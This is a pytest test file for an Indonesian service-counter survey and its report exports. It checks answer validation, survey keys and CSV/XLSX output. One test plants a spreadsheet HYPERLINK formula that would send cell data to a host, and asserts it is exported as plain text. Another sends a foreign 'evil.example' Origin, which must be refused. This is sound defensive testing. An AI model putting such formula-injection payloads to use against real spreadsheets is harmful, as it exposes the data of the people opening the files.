"""The satisfaction survey and the reports over HTTP: one response per finished ticket, from
the phone (no login) or the counter's tablet; bad input is a clear 4xx; exports open."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core import skm
from core.config import Settings
from core.server.cli import main
from reports import exports
from tests.conftest import ROOT, FakeClock
from tests.integration import test_api as base
from tests.integration.test_api import Api

# The API tests' fixtures: an app with officers and an admin, a kiosk, siti at counter 1.
quick_hashes = base.quick_hashes
app = base.app
api = base.api
kiosk = base.kiosk
siti = base.siti
admin = base.admin

ANSWERS = {"scores": {code: 3 for code in skm.ELEMENT_CODES}}


def keyed(ticket: dict, answer: object) -> object:
    """The answer as the ticket's own phone page sends it: with the survey key from the
    fragment of the address the visitor was handed (core/survey_keys.py)."""
    key = ticket["status_url"].split("#k=")[1]
    return {**answer, "key": key} if isinstance(answer, dict) else answer


def served(api: Api, kiosk: str, officer: str, counter: int = 1) -> dict:
    ticket = api.issue(kiosk)
    status, called = api("POST", f"/tickets/{ticket['id']}/call", officer, json={})
    assert status == 200, called
    for action in ("start", "finish"):
        status, body = api("POST", f"/tickets/{ticket['id']}/{action}", officer)
        assert status == 200, body
    return ticket


def test_a_phone_rates_its_finished_ticket_once(api: Api, kiosk: str, siti: str):
    waiting = api.issue(kiosk)
    status, body = api("GET", f"/tickets/{waiting['id']}/survey")
    assert (status, body) == (200, {"finished": False, "answered": False, "open": False})
    status, body = api("POST", f"/tickets/{waiting['id']}/survey", json=keyed(waiting, ANSWERS))
    assert status == 409 and body["error"]["code"] == "ticket_not_finished"
    # The phone shows the message as it is: Bahasa Indonesia first, then English.
    assert body["error"]["message"].startswith(f"Survei tiket {waiting['number']} dibuka")
    assert "finished" in body["error"]["message"]

    ticket = served(api, kiosk, siti)
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True
    answer = {**ANSWERS, "suggestion": "Ruang tunggu nyaman", "profile": {"sex": "L"}}
    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, answer))
    assert status == 201 and body == {
        "ticket": ticket["number"],
        "service": "KTP",
        "channel": "phone",
        "saved": True,
    }
    status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))
    assert status == 409 and body["error"]["code"] == "already_answered"
    assert body["error"]["message"].startswith(f"Tiket {ticket['number']} sudah dinilai")
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1] == {
        "finished": True,
        "answered": True,
        "open": False,
    }


BAD_ANSWERS = [
    ({"scores": {**ANSWERS["scores"], "u3": 5}}, "scores.u3"),
    ({"scores": {**ANSWERS["scores"], "u3": 0}}, "scores.u3"),
    ({"scores": {**ANSWERS["scores"], "u3": "4"}}, "scores.u3"),
    ({"scores": {"u1": 4}}, "scores.u2"),
    ({"scores": [3] * 9}, "scores"),
    ({}, "scores"),
    ({**ANSWERS, "profile": {"education": "PhD"}}, "profile.education"),
    ({**ANSWERS, "profile": "L"}, "profile"),
    ({**ANSWERS, "suggestion": 7}, "suggestion"),
]


def test_out_of_range_or_malformed_answers_are_400_naming_the_field(
    api: Api, kiosk: str, siti: str
):
    ticket = served(api, kiosk, siti)
    tablet = api.device("tablet-loket-1", "survey", counter=1)
    for answer, field in BAD_ANSWERS:
        status, body = api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, answer))
        assert status == 400 and field in body["error"]["message"], (answer, body)
        status, body = api("POST", "/counters/1/survey", tablet, json=answer)
        assert status == 400 and field in body["error"]["message"], (answer, body)
    status, body = api("POST", f"/tickets/{ticket['id']}/survey", data="[1, 2]")
    assert status == 400
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True  # nothing stored


def test_unknown_tickets_and_foreign_origins_are_refused(api: Api, kiosk: str, siti: str):
    assert api("POST", "/tickets/no-such-ticket/survey", json=ANSWERS)[0] == 404
    assert api("GET", "/tickets/no-such-ticket/survey")[0] == 404
    ticket = served(api, kiosk, siti)
    status, body = api(
        "POST",
        f"/tickets/{ticket['id']}/survey",
        json=keyed(ticket, ANSWERS),
        headers={"Origin": "https://evil.example"},
    )
    assert status == 403, body
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True


def test_the_ticket_id_staff_see_is_not_enough_to_answer_for_the_visitor(
    api: Api, kiosk: str, siti: str
):
    """The officer's terminal lists tickets by id; answering also needs the survey key, which
    only the visitor's own address (printed, on the kiosk, the phone's answer) carries."""
    ticket = served(api, kiosk, siti)
    assert "#k=" in ticket["status_url"]
    # What anyone with the id can read holds no key: the ticket's view, the kiosk's QR image.
    seen = api("GET", f"/tickets/{ticket['id']}")[1]
    assert "#k=" not in seen["status_url"] and seen["status_url"] in ticket["status_url"]
    key = ticket["status_url"].split("#k=")[1]
    plain = api.client.get(f"/kiosk/qr/{ticket['id']}.svg").get_data(as_text=True)
    with_key = api.client.get(f"/kiosk/qr/{ticket['id']}.svg?k={key}").get_data(as_text=True)
    assert plain != with_key
    wrong = ("A" if key[0] != "A" else "B") + key[1:]
    assert api.client.get(f"/kiosk/qr/{ticket['id']}.svg?k={wrong}").get_data(as_text=True) == (
        plain
    )
    for guess in (None, "", "x" * 16, key[:-1], wrong, 12345):
        body = ANSWERS if guess is None else {**ANSWERS, "key": guess}
        status, answer = api("POST", f"/tickets/{ticket['id']}/survey", siti, json=body)
        assert status == 403 and answer["error"]["code"] == "survey_key_invalid", guess
        assert "kode QR" in answer["error"]["message"] and "QR code" in answer["error"]["message"]
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True  # nothing stored
    assert api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))[0] == 201
    # A ticket an officer issues at the counter: the terminal gets the plain address.
    assert "#k=" not in api.issue(siti)["status_url"]


def test_a_survey_tablet_rates_the_ticket_its_counter_finished_last(
    api: Api, kiosk: str, siti: str, clock: FakeClock
):
    tablet = api.device("tablet-loket-1", "survey", counter=1)
    other = api.device("tablet-loket-2", "survey", counter=2)
    assert api("POST", "/counters/1/survey", tablet, json=ANSWERS)[1]["error"]["code"] == (
        "nothing_to_rate"
    )
    ticket = served(api, kiosk, siti)
    assert api("POST", "/counters/1/survey", other, json=ANSWERS)[0] == 403
    assert api("POST", "/counters/1/survey", siti, json=ANSWERS)[0] == 403
    assert api("POST", "/counters/1/survey", json=ANSWERS)[0] == 401
    status, body = api("POST", "/counters/1/survey", tablet, json=ANSWERS)
    assert status == 201 and body["ticket"] == ticket["number"] and body["channel"] == "tablet"
    assert api("POST", "/counters/1/survey", tablet, json=ANSWERS)[0] == 409
    # The phone cannot rate it a second time either.
    assert api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))[0] == 409
    # A tablet token acts on no ticket.
    nxt = api.issue(kiosk)
    assert api("POST", f"/tickets/{nxt['id']}/cancel", tablet)[0] == 403
    clock.advance(minutes=11)
    assert api("POST", "/counters/1/survey", tablet, json=ANSWERS)[0] == 409


def test_a_tablet_that_reconnects_learns_whether_its_counters_visitor_is_still_to_rate(
    api: Api, kiosk: str, siti: str, admin: str, clock: FakeClock
):
    tablet = api.device("tablet-loket-1", "survey", counter=1)
    other = api.device("tablet-loket-2", "survey", counter=2)
    nothing = {"open": False, "finished_seconds_ago": None, "number": None}
    assert api("GET", "/counters/1/survey", tablet) == (200, nothing)
    ticket = served(api, kiosk, siti)
    clock.advance(seconds=20)
    assert api("GET", "/counters/1/survey", tablet) == (
        200,
        {"open": True, "finished_seconds_ago": 20.0, "number": ticket["number"]},
    )
    assert api("GET", "/counters/1/survey", other)[0] == 403
    assert api("GET", "/counters/1/survey")[0] == 401
    assert api("GET", "/counters/2/survey", other) == (200, nothing)
    admin_sees = api("GET", "/counters/999/survey", admin)
    assert admin_sees[0] == 404 and "no counter 999" in admin_sees[1]["error"]["message"]
    assert api("POST", "/counters/1/survey", tablet, json=ANSWERS)[0] == 201
    status, body = api("GET", "/counters/1/survey", tablet)
    assert status == 200 and body["open"] is False and body["finished_seconds_ago"] == 20.0
    clock.advance(minutes=11)
    assert api("GET", "/counters/1/survey", tablet) == (200, nothing)


def test_a_survey_device_needs_a_real_counter(api: Api):
    from core.tickets import InvalidRequest

    with pytest.raises(InvalidRequest, match="counter"):
        api.device("tablet-x", "survey")
    with pytest.raises(InvalidRequest, match="counter"):
        api.device("tablet-y", "survey", counter=999)


def test_an_admin_adds_a_survey_tablet_over_the_api(api: Api, admin: str):
    body = {"name": "tablet-loket-1", "kind": "survey", "counter": 1}
    status, answer = api("POST", "/admin/devices", admin, body)
    assert status == 201, answer
    status, answer = api(
        "POST", "/admin/devices", admin, {**body, "name": "tablet-x"} | {"counter": "1"}
    )
    assert status == 400 and "'counter'" in answer["error"]["message"]
    status, answer = api(
        "POST", "/admin/devices", admin, {**body, "name": "tablet-y", "counter": 999}
    )
    assert status == 400 and "999" in answer["error"]["message"]


def test_the_skm_report_counts_respondents_against_the_sample(
    api: Api, kiosk: str, siti: str, admin: str, settings: Settings
):
    scores = [
        {code: 4 for code in skm.ELEMENT_CODES},
        {code: 2 for code in skm.ELEMENT_CODES},
        {**{code: 3 for code in skm.ELEMENT_CODES}, "u4": 4},
    ]
    for answer in scores:
        ticket = served(api, kiosk, siti)
        assert (
            api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, {"scores": answer}))[
                0
            ]
            == 201
        )
    served(api, kiosk, siti)  # served, not rated
    status, body = api("GET", "/skm?by=service", admin)
    assert status == 200, body
    total = body["total"]
    # NRR: u4 = (4 + 2 + 4) / 3 = 3.333, the rest 3.0; IKM = 27.333 / 9 = 3.037 -> 75.93, C
    assert total["respondents"] == 3 and total["population"] == 4
    assert total["minimum_sample"] == 4
    assert total["nrr"]["u1"] == 3.0 and total["nrr"]["u4"] == 3.333
    assert total["ikm_converted"] == 75.93 and total["grade"] == "C"
    assert body["rows"][0]["key"] == "KTP" and body["profile"]["sex"] == {"-": 3}
    assert body["profile_labels"]["sex"]["L"] == "Laki-laki / Male"
    assert body["profile_labels"]["sex"]["-"] == "Tidak diisi / Not given"

    assert api("GET", "/skm", siti)[0] == 403
    assert api("GET", "/skm")[0] == 401


BAD_QUERIES = [
    ("from=2026-11-24&to=2026-11-01", "'to'"),
    ("from=2025-01-01&to=2026-11-24", "at most"),
    ("from=24-11-2026", "'from'"),
    ("from=2026-02-30", "'from'"),
    # Python reads these as dates too (an ISO week date, digits without dashes and spaces),
    # but they are not the YYYY-MM-DD the message asks for: a typo must not become a period.
    ("from=2026-W48-1", "'from'"),
    ("to=20261124%20%20", "'to'"),
    # Wholly after today (the test's clock: 24 November 2026): no figures can exist yet, and
    # an empty report would read as a day nobody came (a mistyped year).
    ("from=2027-11-01&to=2027-11-30", "'from'"),
    ("by=planet", "'by'"),
    ("format=pdf", "'format'"),
]


def test_a_bad_period_or_choice_is_400(api: Api, admin: str):
    for query, field in BAD_QUERIES:
        for path in ("/reports", "/skm"):
            status, body = api("GET", f"{path}?{query}", admin)
            assert status == 400 and field in body["error"]["message"], (path, body)
    assert api("GET", "/skm?by=counter", admin)[0] == 400  # the index is per service, not desk


def test_a_bad_grouping_or_format_is_explained_in_bahasa_indonesia_first(api: Api, admin: str):
    """The report pages show the API's message as it is, like the period's."""
    for query, choices in (
        ("/skm?by=counter", "mall, agency, service"),
        ("/reports?format=pdf", "json, csv, xlsx"),
    ):
        message = api("GET", query, admin)[1]["error"]["message"]
        indonesian, english = message.split(" / ", 1)
        assert indonesian.startswith("Pilihan") and choices in indonesian, message
        assert english.startswith("'") and "must be one of" in english, message


def test_exports_open_as_csv_and_xlsx(api: Api, kiosk: str, siti: str, admin: str):
    ticket = served(api, kiosk, siti)
    api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))
    client = api.client
    headers = {"Authorization": f"Bearer {admin}"}
    response = client.get("/api/v1/reports?by=service&format=csv", headers=headers)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0][:3] == ["Kode / Code", "Kelompok / Group", "Diterbitkan / Issued"]
    assert rows[1][:4] == ["KTP", "Perekaman & Cetak KTP-el", "1", "1"]
    assert rows[-1][:4] == ["", "Total", "1", "1"]
    response = client.get("/api/v1/reports?by=counter&format=xlsx", headers=headers)
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))
    sheet = book["Laporan"]
    values = [row for row in sheet.iter_rows(values_only=True)]
    header = next(n for n, row in enumerate(values) if row[0] == "Kode / Code")
    assert values[header + 1][:4] == ("1", "Loket 1", 1, 1)
    share = values[header].index(
        "Dalam target tunggu (termasuk pengunjung yang tidak terlayani) / "
        "Within target wait (including visitors not served)"
    )
    assert sheet.cell(row=header + 2, column=share + 1).number_format == "0.0%"
    response = client.get("/api/v1/skm?by=agency&format=xlsx", headers=headers)
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["IKM", "Unsur", "Profil", "Saran"]
    rows = list(book["IKM"].iter_rows(values_only=True))
    header = next(n for n, row in enumerate(rows) if row[0] == "Kelompok / Group")
    assert rows[header][1] == "NRR U1" and rows[header + 1][1] == 3
    # all 3s: IKM 3.0, converted 75.00, grade C; 1 respondent of 1 served, sample 1
    assert rows[header + 1][-7:] == (3, 75, "C", "Kurang Baik", 1, 1, 1)


def test_the_report_command(
    tmp_path: Path,
    settings: Settings,
    monkeypatch: pytest.MonkeyPatch,
    capsysbinary: pytest.CaptureFixture[bytes],
):
    config = tmp_path / "config.yaml"
    config.write_text((ROOT / "config.yaml").read_text())
    monkeypatch.setenv("ANTRIAN_DATABASE_URL", settings.database_url)
    run = ["--config", str(config), "report"]
    argv = [
        *run,
        "--from",
        "2026-11-01",
        "--to",
        "2026-11-24",
        "--by",
        "agency",
        "--format",
        "json",
    ]
    assert main(argv) == 0
    body = json.loads(capsysbinary.readouterr().out)
    assert (body["from"], body["to"], body["by"]) == ("2026-11-01", "2026-11-24", "agency")
    assert body["total"]["issued"] == 0
    target = tmp_path / "skm.xlsx"
    assert main([*run, "--skm", "--by", "mall", "--format", "xlsx", "-o", str(target)]) == 0
    assert load_workbook(target).sheetnames[0] == "IKM"
    assert main([*run, "--from", "2026-11-24", "--to", "2026-11-01"]) == 1
    assert b"'to'" in capsysbinary.readouterr().err
    assert main([*run, "--skm", "--by", "counter"]) == 1


def test_a_suggestion_that_looks_like_a_formula_stays_text_in_the_exports(
    api: Api, kiosk: str, siti: str, admin: str
):
    """A visitor writes the suggestion and a manager opens the file: a spreadsheet program
    must show it, never run it (a live link or formula from an anonymous visitor)."""
    formula = '=HYPERLINK("http://127.0.0.1:9/x?"&A1,"Klik")'
    ticket = served(api, kiosk, siti)
    status, _ = api(
        "POST",
        f"/tickets/{ticket['id']}/survey",
        json=keyed(ticket, {**ANSWERS, "suggestion": formula}),
    )
    assert status == 201
    headers = {"Authorization": f"Bearer {admin}"}
    response = api.client.get("/api/v1/skm?by=mall&format=xlsx", headers=headers)
    sheet = load_workbook(io.BytesIO(response.data))["Saran"]
    cell = next(c for (c,) in sheet.iter_rows(min_col=3, max_col=3) if c.value == formula)
    assert cell.data_type == "s"
    assert exports.as_text(formula) == "'" + formula
    assert exports.as_text("-1") == "'-1" and exports.as_text("Loket 1") == "Loket 1"
    assert exports.as_text(-1) == -1  # numbers are numbers


def test_a_suggestion_with_a_control_character_does_not_break_the_xlsx_export(
    api: Api, kiosk: str, siti: str, admin: str
):
    """Text pasted from a word processor can hold a vertical tab or a form feed, which the
    XLSX format cannot store: one visitor's suggestion must not turn the whole period's export
    into an error; the character becomes a space and the rest of the text stays."""
    ticket = served(api, kiosk, siti)
    suggestion = "Antre lama\x0bsekali\x0cmohon ditambah loket"
    status, _ = api(
        "POST",
        f"/tickets/{ticket['id']}/survey",
        json=keyed(ticket, {**ANSWERS, "suggestion": suggestion}),
    )
    assert status == 201
    headers = {"Authorization": f"Bearer {admin}"}
    response = api.client.get("/api/v1/skm?by=mall&format=xlsx", headers=headers)
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data))["Saran"]
    texts = [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]
    assert texts == ["Antre lama sekali mohon ditambah loket"]


def test_the_skm_csv_export_lists_the_suggestions_as_text(
    api: Api, kiosk: str, siti: str, admin: str
):
    """The regulation's report ends with the visitors' suggestions, and the XLSX has them:
    the CSV too, each in one cell whatever its line breaks, commas and quotes, and a formula
    kept as text."""
    suggestion = '=1+2\nAntrean "cepat", terima kasih'
    ticket = served(api, kiosk, siti)
    answer = keyed(ticket, {**ANSWERS, "suggestion": suggestion})
    assert api("POST", f"/tickets/{ticket['id']}/survey", json=answer)[0] == 201
    headers = {"Authorization": f"Bearer {admin}"}
    response = api.client.get("/api/v1/skm?by=service&format=csv", headers=headers)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    title = rows.index(["Saran / Suggestions"])
    assert rows[title + 1] == ["Tanggal / Date", "Layanan / Service", "Saran / Suggestion"]
    assert rows[title + 2] == ["2026-11-24", "KTP", "'" + suggestion]


def test_the_exports_hold_every_suggestion_of_the_period_the_page_the_latest(
    api: Api, kiosk: str, siti: str, admin: str, monkeypatch: pytest.MonkeyPatch
):
    """The page lists the latest suggestions (a busy month has thousands) and says how many
    there are; the files a manager files hold every one of them, never silently the latest."""
    from core.views import reports as report_views

    monkeypatch.setattr(report_views, "SUGGESTIONS_SHOWN", 2)
    for n in range(3):
        ticket = served(api, kiosk, siti)
        answer = keyed(ticket, {**ANSWERS, "suggestion": f"Saran ke-{n + 1}"})
        assert api("POST", f"/tickets/{ticket['id']}/survey", json=answer)[0] == 201
    status, shown = api("GET", "/skm?by=mall", admin)
    assert [s["text"] for s in shown["suggestions"]] == ["Saran ke-3", "Saran ke-2"]
    assert shown["suggestions_total"] == 3
    headers = {"Authorization": f"Bearer {admin}"}
    response = api.client.get("/api/v1/skm?by=mall&format=xlsx", headers=headers)
    sheet = load_workbook(io.BytesIO(response.data))["Saran"]
    texts = [c.value for (c,) in sheet.iter_rows(min_row=2, min_col=3, max_col=3)]
    assert texts == ["Saran ke-3", "Saran ke-2", "Saran ke-1"]
    response = api.client.get("/api/v1/skm?by=mall&format=csv", headers=headers)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert [row[2] for row in rows[rows.index(["Saran / Suggestions"]) + 2 :]] == texts


def test_the_skm_exports_have_the_weighted_nrr_of_each_element(
    api: Api, kiosk: str, siti: str, admin: str
):
    """The regulation's table: per element its NRR and its weighted NRR (× 1/9), whose sum is
    the IKM; the page shows both, and so do the files."""
    ticket = served(api, kiosk, siti)
    assert api("POST", f"/tickets/{ticket['id']}/survey", json=keyed(ticket, ANSWERS))[0] == 201
    headers = {"Authorization": f"Bearer {admin}"}
    response = api.client.get("/api/v1/skm?by=mall&format=csv", headers=headers)
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, total = rows[0], next(row for row in rows if row and row[0] == "Total")
    weighted = [header.index(f"NRR tertimbang U{n}") for n in range(1, 10)]
    assert [total[i] for i in weighted] == ["0.333"] * 9  # 3 × 1/9
    assert total[header.index("IKM")] == "3.0"
    response = api.client.get("/api/v1/skm?by=mall&format=xlsx", headers=headers)
    sheet = list(load_workbook(io.BytesIO(response.data))["IKM"].iter_rows(values_only=True))
    at = next(n for n, row in enumerate(sheet) if row[0] == "Kelompok / Group")
    assert sheet[at][10:19] == tuple(f"NRR tertimbang U{n}" for n in range(1, 10))
    assert sheet[at + 1][10:19] == (0.333,) * 9


def test_a_suggestion_holding_half_an_emoji_is_a_clear_400_not_a_500(
    api: Api, kiosk: str, siti: str
):
    """JSON may escape half of a UTF-16 pair ("\\ud83d" without its partner), which no
    database can store as text: the visitor is told which field to fix."""
    ticket = served(api, kiosk, siti)
    scores = ", ".join(f'"{code}": 3' for code in skm.ELEMENT_CODES)
    key = ticket["status_url"].split("#k=")[1]
    raw = f'{{"key": "{key}", "scores": {{{scores}}}, "suggestion": "Bagus \\ud83d"}}'
    status, body = api(
        "POST",
        f"/tickets/{ticket['id']}/survey",
        data=raw,
        headers={"Content-Type": "application/json"},
    )
    assert status == 400 and "'suggestion'" in body["error"]["message"], body
    assert api("GET", f"/tickets/{ticket['id']}/survey")[1]["open"] is True
